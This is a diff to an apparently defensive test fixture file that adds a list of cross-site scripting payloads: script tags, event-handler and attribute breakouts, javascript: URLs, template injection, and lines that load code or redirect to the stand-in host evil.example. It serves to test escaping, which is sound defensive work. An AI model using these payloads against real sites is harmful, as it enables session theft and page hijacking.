@@ -101,3 +101,34 @@ export const hostileTexts: readonly string[] = [
   "\n".repeat(10_000),
   `${"a".repeat(120)} ${"щ".repeat(120)} ${"ü".repeat(120)}`,
 ];
+
+/**
+ * What would run, load or lead elsewhere if a page took it for more than text: out of an element, an attribute, a title, a textarea,
+ * a script, a style, a template or an address. Each sets `hacked` or asks evil.example for something.
+ */
+export const scriptTexts: readonly string[] = [
+  "<script>window.hacked=1</script>",
+  '"><script src=//evil.example/x.js></script>',
+  "<img src=//evil.example/x.png onerror=window.hacked=1>",
+  "<svg/onload=window.hacked=1>",
+  "</title><script>window.hacked=1</script>",
+  "</textarea></select></option><img src=x onerror=window.hacked=1>",
+  "</script><script>window.hacked=1</script>",
+  "<!--<script>window.hacked=1//-->",
+  '" autofocus onfocus="window.hacked=1" x="',
+  "' autofocus onfocus='window.hacked=1' x='",
+  "` onmouseover=window.hacked=1 `",
+  "javascript:window.hacked=1",
+  "<a href=javascript:window.hacked=1>x</a>",
+  '<iframe srcdoc="<script>parent.hacked=1</script>"></iframe>',
+  "<details open ontoggle=window.hacked=1>",
+  "<style>@import '//evil.example/x.css'; *{background:url(//evil.example/x)}</style>",
+  "<base href=//evil.example/>",
+  "<meta http-equiv=refresh content='0;url=//evil.example'>",
+  "<form action=//evil.example><button autofocus>x</button>",
+  "<math><mtext></form><form><mglyph><style></math><img src onerror=window.hacked=1>",
+  "{{constructor.constructor('window.hacked=1')()}}",
+  "$" + "{window.hacked=1}",
+  "\\u003cscript\\u003ewindow.hacked=1\\u003c/script\\u003e",
+  '\u2028window.hacked=1\u2029"});window.hacked=1;//',
+];
